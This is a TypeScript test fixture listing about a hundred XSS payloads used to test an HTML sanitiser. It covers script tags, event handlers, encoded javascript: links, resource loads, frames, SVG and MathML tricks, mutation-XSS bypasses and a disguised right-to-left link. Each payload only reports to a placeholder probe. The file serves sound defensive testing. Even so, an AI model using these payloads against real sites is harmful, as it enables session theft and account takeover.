/**
 * Comments as attackers write them. Each carries a probe: code that would push the attack's number to
 * `window.__fired` of the top page, or an address `https://probe.invalid/<number>` that would be requested.
 */
export interface AttackString {
  /** Number in the probe, from 1. */
  number: number;
  name: string;
  html: string;
  /** What Chromium reliably does with it where nothing protects: how the control proves that the probe works. */
  fires: 'by-itself' | 'on-click' | 'never';
}

/** Host of every request that a probe would make. */
export const PROBE_HOST = 'probe.invalid';

interface Probe {
  /** Code that reports; free of quotes, angle brackets and white space, so that it fits anywhere. */
  js: string;
  /** Address that reports by being asked for. */
  url: string;
}

type Attack = [name: string, fires: AttackString['fires'], html: (probe: Probe) => string];

const scripts: Attack[] = [
  ['script', 'by-itself', ({ js }) => `<script>${js}</script>`],
  ['script from elsewhere', 'by-itself', ({ url }) => `<script src="${url}"></script>`],
  ['script as module', 'by-itself', ({ js }) => `<script type="module">${js}</script>`],
  ['script in odd letters', 'by-itself', ({ js }) => `<ScRiPt/x="1"\n>${js}</sCrIpT/y>`],
  ['script cut by a NUL', 'never', ({ js }) => `<scr\u0000ipt>${js}</scr\u0000ipt>`],
  ['script in full-width brackets', 'never', ({ js }) => `＜script＞${js}＜/script＞`],
  [
    'import map',
    'by-itself',
    ({ url }) =>
      `<script type="importmap">{"imports":{"x":"${url}"}}</script><script type="module">import "x"</script>`,
  ],
  [
    'speculation rules',
    'never',
    ({ url }) => `<script type="speculationrules">{"prefetch":[{"urls":["${url}"]}]}</script>`,
  ],
];

const handlers: Attack[] = [
  ['picture that fails', 'by-itself', ({ js }) => `<img src="x:" onerror="${js}">`],
  ['picture without quotes', 'by-itself', ({ js }) => `<img/src/onerror=${js}>`],
  ['handler in entities', 'by-itself', ({ js }) => `<img src=x: onerror="${entities(js)}">`],
  ['handler behind a line break', 'by-itself', ({ js }) => `<img src=x:\nonerror\n=\n"${js}">`],
  ['handler on an allowed element', 'on-click', ({ js }) => `<b onclick="${js}">click</b>`],
  ['handler on a link', 'on-click', ({ js }) => `<a href="#" onpointerover="${js}">over</a>`],
  ['body', 'by-itself', ({ js }) => `<body onload="${js}">`],
  ['focused input', 'by-itself', ({ js }) => `<input autofocus onfocus="${js}">`],
  ['focused anything', 'by-itself', ({ js }) => `<xss tabindex=1 autofocus onfocus="${js}">x</xss>`],
  ['open details', 'by-itself', ({ js }) => `<details open ontoggle="${js}"><summary>x</summary>y</details>`],
  ['focused text', 'by-itself', ({ js }) => `<textarea autofocus onfocus="${js}"></textarea>`],
  ['audio', 'by-itself', ({ js }) => `<audio src=x: onerror="${js}"></audio>`],
  ['video source', 'by-itself', ({ js }) => `<video><source src=x: onerror="${js}"></video>`],
  [
    'animation',
    'by-itself',
    ({ js }) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${js}">x</p>`,
  ],
  [
    'popover',
    'on-click',
    ({ js }) => `<button popovertarget=pop>x</button><div popover id=pop onbeforetoggle="${js}">y</div>`,
  ],
];

const addresses: Attack[] = [
  ['javascript link', 'on-click', ({ js }) => `<a href="javascript:${js}">x</a>`],
  ['javascript in odd letters', 'on-click', ({ js }) => `<a href="JaVaScRiPt:${js}">x</a>`],
  ['javascript with a tab', 'on-click', ({ js }) => `<a href="java\tscript:${js}">x</a>`],
  ['javascript with a line break', 'on-click', ({ js }) => `<a href="java\nscript\r\n:${js}">x</a>`],
  ['javascript in entities', 'on-click', ({ js }) => `<a href="${entities('javascript:')}${js}">x</a>`],
  ['javascript with a named tab', 'on-click', ({ js }) => `<a href="java&Tab;script&colon;${js}">x</a>`],
  ['javascript behind a control', 'on-click', ({ js }) => `<a href="&#1;javascript:${js}">x</a>`],
  ['javascript comment', 'on-click', ({ js }) => `<a href="javascript://x/%0a${js}">x</a>`],
  ['data link', 'never', ({ js }) => `<a href="data:text/html,<script>${js}</script>">x</a>`],
  ['link with a ping', 'on-click', ({ url }) => `<a href="#" ping="${url}">x</a>`],
  ['link to the top window', 'on-click', ({ url }) => `<a href="${url}" target="_top">x</a>`],
  ['link without a protocol', 'on-click', ({ url }) => `<a href="${url.slice('https:'.length)}">x</a>`],
  ['quote from javascript', 'never', ({ js }) => `<blockquote cite="javascript:${js}">x</blockquote>`],
  ['title that breaks out', 'never', ({ js }) => `<a href="#" title='"><img src=x: onerror=${js}>'>x</a>`],
  ['date that breaks out', 'never', ({ js }) => `<del datetime='"><svg onload=${js}>'>x</del>`],
  ['picture map', 'never', ({ js }) => `<map name=m><area href="javascript:${js}"></map><img usemap=#m>`],
];

const loads: Attack[] = [
  ['picture', 'by-itself', ({ url }) => `<img src="${url}">`],
  ['picture set', 'by-itself', ({ url }) => `<img srcset="${url} 2x, ${url} 1x">`],
  ['picture element', 'by-itself', ({ url }) => `<picture><source srcset="${url}"><img></picture>`],
  ['smiley from elsewhere', 'by-itself', ({ url }) => `<img class="wp-smiley" alt="🙂" src="${url}">`],
  ['picture as a button', 'by-itself', ({ url }) => `<input type="image" src="${url}">`],
  ['video poster', 'by-itself', ({ url }) => `<video poster="${url}"></video>`],
  ['style sheet', 'by-itself', ({ url }) => `<link rel="stylesheet" href="${url}">`],
  ['preload', 'by-itself', ({ url }) => `<link rel="preload" as="image" href="${url}">`],
  ['prefetch', 'by-itself', ({ url }) => `<link rel="prefetch" href="${url}">`],
  ['module preload', 'by-itself', ({ url }) => `<link rel="modulepreload" href="${url}">`],
  ['style import', 'by-itself', ({ url }) => `<style>@import "${url}";</style>`],
  ['style background', 'by-itself', ({ url }) => `<style>p{background:url(${url})}</style><p>x</p>`],
  ['style attribute', 'by-itself', ({ url }) => `<p style="background:url(${url})">x</p>`],
  ['list marker', 'by-itself', ({ url }) => `<ul style="list-style-image:url(${url})"><li>x</li></ul>`],
  ['generated content', 'by-itself', ({ url }) => `<style>b::after{content:url(${url})}</style><b>x</b>`],
  ['font', 'by-itself', ({ url }) => fontFrom(url)],
  ['page background', 'by-itself', ({ url }) => `<body background="${url}">`],
  ['table background', 'by-itself', ({ url }) => `<table background="${url}"><tr><td>x</table>`],
  ['base', 'by-itself', ({ url }) => `<base href="${url}/"><img src="x">`],
  ['refresh', 'by-itself', ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`],
  ['refresh to code', 'never', ({ js }) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`],
  ['form', 'on-click', ({ url }) => `<form action="${url}"><button>x</button></form>`],
  ['form of code', 'on-click', ({ js }) => `<form><button formaction="javascript:${js}">x</button></form>`],
];

const frames: Attack[] = [
  ['frame of code', 'by-itself', ({ js }) => `<iframe src="javascript:${js}"></iframe>`],
  ['frame from elsewhere', 'by-itself', ({ url }) => `<iframe src="${url}"></iframe>`],
  ['frame with its own text', 'by-itself', ({ js }) => `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  [
    'frame in entities',
    'by-itself',
    ({ js }) => `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`,
  ],
  ['frame of data', 'by-itself', ({ url }) => `<iframe src="data:text/html,<img src=${url}>"></iframe>`],
  ['object', 'by-itself', ({ url }) => `<object data="${url}"></object>`],
  ['embed', 'by-itself', ({ url }) => `<embed src="${url}">`],
  ['portal', 'never', ({ url }) => `<portal src="${url}"></portal>`],
  [
    'declarative shadow tree',
    'by-itself',
    ({ js }) =>
      `<p><b><div><template shadowrootmode="open"><img src=x: onerror=${js}></template></div></b></p>`,
  ],
  ['template', 'never', ({ js }) => `<template><img src=x: onerror=${js}></template>`],
];

const drawings: Attack[] = [
  ['drawing', 'by-itself', ({ js }) => `<svg onload="${js}"></svg>`],
  ['drawing script', 'by-itself', ({ js }) => `<svg><script>${js}</script></svg>`],
  ['drawing script from elsewhere', 'by-itself', ({ url }) => `<svg><script href="${url}"></script></svg>`],
  ['drawing picture', 'by-itself', ({ url }) => `<svg><image href="${url}" width=9 height=9 /></svg>`],
  ['drawing style', 'by-itself', ({ url }) => `<svg><style>@import "${url}";</style></svg>`],
  [
    'drawing animation',
    'by-itself',
    ({ js }) => `<svg><animate onbegin="${js}" attributeName=x dur=1s /></svg>`,
  ],
  ['drawing set', 'by-itself', ({ js }) => `<svg><set onbegin="${js}" attributeName=x to=1 /></svg>`],
  [
    'drawing link',
    'on-click',
    ({ js }) => `<svg><a xlink:href="javascript:${js}"><text x="20" y="20">click</text></a></svg>`,
  ],
  [
    'page inside',
    'by-itself',
    ({ js }) => `<svg><foreignObject><img src=x: onerror="${js}"></foreignObject></svg>`,
  ],
  [
    'drawing filter',
    'by-itself',
    ({ url }) =>
      `<svg><filter id=f><feImage href="${url}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`,
  ],
  [
    'drawing that reuses',
    'never',
    ({ js }) => `<svg><use href="data:image/svg+xml,<svg onload=${js}>#x" /></svg>`,
  ],
  ['formula link', 'never', ({ js }) => `<math href="javascript:${js}">click</math>`],
];

/** Markup that means one thing to one parser and another to the next; several once passed sanitisers. */
const mutations: Attack[] = [
  ['noscript title', 'by-itself', ({ js }) => `<noscript><p title="</noscript><img src=x: onerror=${js}>">`],
  ['xmp title', 'by-itself', ({ js }) => `<xmp><p title="</xmp><img src=x: onerror=${js}>">`],
  ['noembed title', 'by-itself', ({ js }) => `<noembed><p title="</noembed><svg onload=${js}>">`],
  ['noframes title', 'by-itself', ({ js }) => `<noframes><p title="</noframes><svg onload=${js}>">`],
  ['textarea title', 'by-itself', ({ js }) => `<textarea><p title="</textarea><svg onload=${js}>">`],
  ['title in a title', 'by-itself', ({ js }) => `<title><p title="</title><svg onload=${js}>">`],
  ['comment that is none', 'by-itself', ({ js }) => `<!--><img src=x: onerror=${js}>-->`],
  ['comment with a bang', 'by-itself', ({ js }) => `<!--x--!><img src=x: onerror=${js}>-->`],
  ['instruction', 'by-itself', ({ js }) => `<?xml ><img src=x: onerror=${js}>?>`],
  ['character data', 'by-itself', ({ js }) => `<![CDATA[><img src=x: onerror=${js}>]]>`],
  [
    'drawing style title',
    'by-itself',
    ({ js }) => `<svg></p><style><a id="</style><img src=x: onerror=${js}>">`,
  ],
  [
    'formula in a table',
    'never',
    ({ js }) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${js}></style></mglyph></form>`,
  ],
  [
    'formula style comment',
    'never',
    ({ js }) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js}&gt;">`,
  ],
  [
    'formula annotation',
    'by-itself',
    ({ js }) => `<math><annotation-xml encoding="text/html"><svg onload=${js}></svg></annotation-xml></math>`,
  ],
  ['thousands deep', 'by-itself', ({ js }) => `${'<b>'.repeat(3000)}<img src=x: onerror=${js}>`],
  ['zip of unclosed tags', 'by-itself', ({ js }) => `${'<b><i><a><p>'.repeat(60)}<svg onload=${js}>`],
  [
    'names that hide the real ones',
    'by-itself',
    ({ js }) => `<form><input name=childNodes><input name=attributes><img src=x: onerror=${js}></form>`,
  ],
  [
    'ids that hide the real ones',
    'by-itself',
    ({ js }) => `<a id=body name=fonts><img src=x: onerror=${js}></a>`,
  ],
  ['customised element', 'on-click', ({ js }) => `<b is="x-evil" onclick="${js}">x</b>`],
  ['text that runs backwards', 'on-click', ({ url }) => `<a href="${url}">\u202egpj.yad\u2066moc.knab</a>`],
];

/** All attacks, numbered from 1. */
export const attackStrings: readonly AttackString[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...loads,
  ...frames,
  ...drawings,
  ...mutations,
].map(([name, fires, html], index) => {
  const number = index + 1;
  return {
    number,
    name,
    fires,
    html: html({ js: `(top.__fired??=[]).push(${number})`, url: `https://${PROBE_HOST}/${number}` }),
  };
});

function entities(text: string): string {
  return [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join('');
}

function fontFrom(url: string): string {
  return `<style>@font-face{font-family:f;src:url(${url})}p{font-family:f}</style><p>x</p>`;
}
